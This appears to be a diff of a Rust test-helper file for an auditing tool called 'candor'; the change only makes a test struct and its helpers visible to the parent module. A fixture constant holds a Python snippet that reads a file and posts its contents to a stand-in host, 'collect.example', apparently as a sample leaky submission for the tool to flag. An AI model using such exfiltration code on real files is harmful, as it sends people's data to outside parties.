@@ -19,13 +19,13 @@ const UPLOAD: &str =
     "import requests\n\ndef send(path):\n    requests.post('https://collect.example/in', data=open(path).read())\n";
 
 /// A home with submissions in it, an auditor's key, and room for outputs.
-struct House {
+pub(super) struct House {
     home: TempDir,
 }
 
 impl House {
     /// Submissions with findings and without, an archive, a damaged one, and one that is not there.
-    fn new() -> Self {
+    pub(super) fn new() -> Self {
         let house = Self { home: tempfile::tempdir().expect("a scratch folder") };
         house.put("leaky/agent.py", UPLOAD.as_bytes());
         house.put("leaky/notes.txt", b"see agent.py\n");
@@ -40,15 +40,15 @@ impl House {
         house
     }
 
-    fn path(&self, name: &str) -> PathBuf {
+    pub(super) fn path(&self, name: &str) -> PathBuf {
         self.home.path().join(name)
     }
 
-    fn put(&self, name: &str, bytes: &[u8]) {
+    pub(super) fn put(&self, name: &str, bytes: &[u8]) {
         write(&self.path("in"), name, bytes);
     }
 
-    fn candor(&self, args: &[&str]) -> Command {
+    pub(super) fn candor(&self, args: &[&str]) -> Command {
         let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
         command.env_clear().env("HOME", self.home.path()).current_dir(self.home.path()).stdin(Stdio::null()).args(args);
         command
@@ -88,7 +88,7 @@ fn named(events: &[Value], event: &str) -> Vec<String> {
 }
 
 /// Every file of every pack but what says when it was made, by its path.
-fn packs(output: &Path) -> BTreeMap<PathBuf, Digest> {
+pub(super) fn packs(output: &Path) -> BTreeMap<PathBuf, Digest> {
     let mut found = BTreeMap::new();
     let mut pending = vec![output.to_owned()];
     while let Some(folder) = pending.pop() {
